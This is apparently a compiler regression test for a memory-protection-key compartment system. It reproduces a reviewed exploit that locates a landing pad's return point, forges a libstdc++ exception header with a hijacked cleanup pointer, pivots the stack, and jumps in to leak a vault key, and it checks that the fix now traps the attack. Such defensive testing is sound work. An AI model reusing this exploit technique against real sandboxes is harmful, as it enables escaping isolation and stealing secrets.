// Review 58, attacker model B (control of the default domain's program
// counter). Every landing pad of a compartment's function starts with issue
// 11's hand-over (a jump to __bulkhead_exception_arrives with the pad's
// return point in r11), then (until the fix below) a gate into the
// compartment with its stack check ("rsp in the arena"), then the catch. The
// default domain jumps straight to that return point, past the stub, with
// the default domain's rights: the gate installed the vault's, the check
// passed (rsp put in the vault's own stack of this thread, below its live
// frames, mapped and dead), and the vault's catch ran on registers the
// jumper chose. At -O2 the pad takes the exception from a callee-saved
// register (r14: the unwinder's rax, copied there before the stub) and the
// status pointer from rbx: r14 points at a libstdc++ header the program
// built in its own key-0 memory ("GNUCC++\0", handler count 0, adjustedPtr
// at a word of its own, exception_cleanup = steal). __cxa_begin_catch, with
// the vault's rights, takes it into the vault's caught list; the catch
// stores "POWNED!" through rbx (here a harmless key-0 word: the store would
// land anywhere the vault may write, vault_key included); then
// __cxa_end_catch drops the last handler and libgcc_s's
// _Unwind_DeleteException calls exception_cleanup with the vault's rights:
// steal copies vault_key to stdout after "ATTACK SUCCEEDED: ".
// None of issue 11's protections is met: the hand-over stub never runs,
// and the header is the attacker's own, never a block of the vault's.
// The jump is made in a forked child (the parent reports how it ended and
// reaches the end either way). The control makes the vault throw and
// catch one exception of its own (the pad is real and stores through rbx)
// and finds the return point, but does not jump.
// Same family as threat-model.md's open "re-entry gates check rsp but not
// rbp" (-O0), and the run-time-chosen gates of __bulkhead_enter_index
// there: a gate followed by compartment code that trusts registers; here
// at -O2, and the register is the exception itself, which libstdc++ calls
// through with the compartment's rights.
// Seen in the guest (LLVM 19, -O2), before the fix: "ATTACK SUCCEEDED:
// TOP-SECRET-VAULT-KEY" then "attack child: exited 0", 3 of 3 (by hand and
// under lit); the control prints its four lines, 3 of 3.
// Fixed as review 58 suggested: with per-compartment stacks a
// compartment's landing pad is reached legitimately only with that
// compartment's own rights (an exception from another domain cannot
// unwind through its frames: it faults on its stack first, design.md), so
// the pad's gate opens nothing now: it traps unless the thread already
// holds the compartment's rights (RDPKRU against the descriptor) and rsp
// is in its arena, before any compartment code runs
// (test/pass/landing-pad-rights-check.cpp). Seen since: "attack child:
// signal 4" (the check's ud2) and "vault key intact", 3 of 3 under lit;
// the control as before. Still open without compartment stacks
// (-fno-pkey-compartment-stacks), where another domain's exception
// arrives at the pad and its gate stays (threat-model.md).
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -o %t
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t | FileCheck %s
// CONTROL: caught in the vault: status 7
// CONTROL: pad's return point found
// CONTROL: no jump
// CONTROL: vault key intact
// CHECK: caught in the vault: status 7
// CHECK: pad's return point found
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: attack child: {{.*}}
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: vault key intact
#include <bulkhead.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";

struct E {
  long v;
};

extern "C" BULKHEAD_INTERNAL(vault) __attribute__((noinline)) void
vault_step(long code) {
  if (code)
    throw E{code};
}

/* An ordinary request: its error code goes to the caller's status word. */
extern "C" BULKHEAD_ENTRY(vault) int vault_run(long code, long *status) {
  try {
    vault_step(code);
  } catch (E &e) {
    *status = e.v;
    return 1;
  }
  return 0;
}

extern "C" BULKHEAD_ENTRY(vault) int vault_key_intact(void) {
  return strcmp(vault_key, "TOP-SECRET-VAULT-KEY") == 0;
}

#include "Inputs/steal-vault-key.h"

/* The return point of vault_run's pad's hand-over: the target of its
 * "leaq disp(%rip), %r11" just before "jmp __bulkhead_exception_arrives". */
static uintptr_t pad_return_point(void) {
  uintptr_t run, stub;
  __asm__("leaq \"__bulkhead_body.vault_run\"(%%rip), %0" : "=r"(run));
  __asm__("leaq __bulkhead_exception_arrives(%%rip), %0" : "=r"(stub));
  for (const unsigned char *q = (const unsigned char *)run;
       q < (const unsigned char *)run + 1024; q++) {
    int32_t d, j;
    memcpy(&d, q + 3, 4);
    memcpy(&j, q + 8, 4);
    if (q[0] == 0x4c && q[1] == 0x8d && q[2] == 0x1d && q[7] == 0xe9 &&
        (uintptr_t)q + 12 + j == stub)
      return (uintptr_t)q + 7 + d;
  }
  return 0;
}

/* libstdc++'s __cxa_refcounted_exception (GCC 12), 128 bytes, then the
 * object: the unwind header at 96. */
static struct {
  uint64_t w[16];
  long object;
} __attribute__((aligned(16))) forged;
static long scratch; /* where the catch's store goes: key-0 */

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  int armed = argc < 2 || strcmp(argv[1], "control");
  long status = 0;
  int failed = vault_run(7, &status); /* also gives main its vault stack */
  if (failed)
    printf("caught in the vault: status %ld\n", status);
  uintptr_t back = pad_return_point();
  printf("pad's return point %s\n", back ? "found" : "not found");
  /* This thread's stack of the vault: its top, from the vault's slot
   * (key-0 TLS, through the descriptor's slot function); 256 KiB below,
   * dead and mapped. */
  uintptr_t desc;
  __asm__("leaq __bulkhead_domain.vault(%%rip), %0" : "=r"(desc));
  void **(*slot_of)(void) = *(void **(**)(void))(desc + 56);
  uintptr_t sp = ((uintptr_t)*slot_of() - (256u << 10)) & ~(uintptr_t)15;
  if (!armed || !back) {
    printf("no jump\n");
  } else {
    uintptr_t steal_at;
    __asm__("leaq steal(%%rip), %0" : "=r"(steal_at));
    forged.w[0] = 1;                           /* referenceCount */
    forged.w[12] = 0x474e5543432b2b00ull;      /* "GNUCC++\0" */
    forged.w[13] = steal_at;                   /* exception_cleanup */
    forged.w[11] = (uintptr_t)&forged.object;  /* adjustedPtr */
    forged.object = 0x2144454e574f50;          /* "POWNED!" */
    pid_t pid = fork();
    if (pid == 0) {
      register uintptr_t ue __asm__("r14") = (uintptr_t)&forged.w[12];
      register long *to __asm__("rbx") = &scratch;
      __asm__ volatile("movq %%rax, %%rsp\n"
                       "jmp *%%rcx\n"
                       :
                       : "r"(ue), "r"(to), "a"(sp), "c"(back)
                       : "memory");
      __builtin_unreachable();
    }
    int st = 0;
    waitpid(pid, &st, 0);
    if (WIFEXITED(st))
      printf("attack child: exited %d\n", WEXITSTATUS(st));
    else
      printf("attack child: signal %d\n", WTERMSIG(st));
  }
  printf("vault key %s\n", vault_key_intact() ? "intact" : "overwritten");
  return 0;
}
